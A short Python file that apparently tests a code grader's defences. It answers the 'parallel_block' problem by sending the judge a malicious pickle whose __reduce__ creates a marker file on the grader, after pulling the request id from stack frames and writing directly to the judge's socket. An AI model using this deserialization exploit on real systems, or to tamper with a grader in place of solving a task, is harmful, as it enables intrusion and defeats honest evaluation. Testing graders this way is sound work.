"""Sends the judge a pickle that would leave a file behind.

Problem: parallel_block
"""

import os
import pickle
import socket
import struct
import sys

from honest.adapters import *


class Bomb:
    def __reduce__(self):
        return (open, ("/tmp/grader-attack-was-here", "w"))


def request_id():
    """The number of the request that is being answered, from the frame of the worker's main loop."""
    frame = sys._getframe()
    while frame:
        if isinstance(request := frame.f_locals.get("request"), dict):
            return request["id"]
        frame = frame.f_back
    return 0


def send(body):
    with socket.socket(fileno=os.dup(int(sys.argv[1]))) as channel:
        channel.sendall(struct.pack(">Q", len(body)) + body)


def run_parallel_block(in_features, **others):
    send(pickle.dumps({"id": request_id(), "kind": "ok", "value": Bomb()}))
    os._exit(0)
